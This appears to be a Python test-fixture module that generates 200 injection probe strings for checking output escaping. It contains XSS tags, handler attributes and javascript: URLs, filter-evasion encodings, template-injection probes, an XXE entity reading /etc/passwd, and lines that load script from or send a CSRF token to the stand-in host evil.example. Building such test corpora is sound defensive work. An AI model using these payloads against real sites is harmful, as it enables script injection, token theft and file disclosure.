"""Two hundred texts that are script or markup wherever somebody forgets that they are words.

Each opens a dialog, asks a stranger or breaks the page it runs in; a browser tells of all three.
"""

from itertools import product

RUN = "alert(1)"
BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "--></style>", "</select>")
"""Ways out of where a text may stand: plain, an attribute, an element that holds text only."""
TAGS = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>",
    f"<details open ontoggle={RUN}>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<input autofocus onfocus={RUN}>", "<script src=//evil.example/a.js></script>",
    f"<body onpageshow={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>klik</a>", "<link rel=stylesheet href=//evil.example/a.css>",
    "<base href=//evil.example/>", f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
)  # fmt: skip
ATTRIBUTES = (
    f'" autofocus onfocus="{RUN}', f"' onmouseover='{RUN}", f'" onanimationstart={RUN} x="',
    f"` onerror=`{RUN}", f'"style="background:url(javascript:{RUN})',
    f'" formaction="javascript:{RUN}',
    f'" srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;', f'"/onload="{RUN}', '" data-module="board',
    f"'-{RUN}-'", f'"-{RUN}-"', f"`-{RUN}-`", f"\\'-{RUN}//", f'\\"-{RUN}//', "${alert(1)}",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f" javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"//evil.example/{RUN}",
    f"javascript://%0a{RUN}", f"&#106;avascript:{RUN}", "https://evil.example/?a=<b>",
)  # fmt: skip
ENCODED = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}", f"\\x3cimg src=x onerror={RUN}\\x3e", "＜script＞alert(1)",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<img/src=x/onerror={RUN}>", f"<img src=x onerror\n={RUN}>", f"<svg><animate onbegin={RUN} "
    "attributeName=x>", f"<p title='</p><img src=x onerror={RUN}>'>", "+ADw-script+AD4-",
    "&quot;&gt;&lt;b&gt;", "&amp;lt;b&amp;gt;", "&#60;b&#62;tebal&#60;/b&#62;",
)  # fmt: skip
CUTS = (
    "<!--", "-->", "<!-- <img --!>", "]]>", "<![CDATA[", "<plaintext>", "<xmp>", "<noscript>",
    "<template>", "<frameset>", "<meta http-equiv=refresh content='0;//evil.example'>", "</body>",
    "</html>", "</main><main>", "<form action=//evil.example><input name=csrf_token>",
    "<b>tebal</b>",
    "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{% raw %}", "{% include 'x' %}", "{#", "#{7*7}", "${7*7}",
    "<%= 7*7 %>",
    "%(name)s", "%s%s%n", "{0.__class__}", "{name!r:>{width}}", "{}", "{{''.__class__.__mro__}}",
    "$name", "@(1+1)", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "*{7*7}", "~{a}",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *TAGS, *ATTRIBUTES, *ADDRESSES, *ENCODED, *CUTS, *TEMPLATES,
            *(way + tag for way, tag in product(BREAKS[1:], TAGS)),
            *(cut + TAGS[1] for cut in CUTS[:9]), *(f"Loket 2 {one} ramai" for one in TAGS[:8]),
        )
    )
)[:200]  # fmt: skip
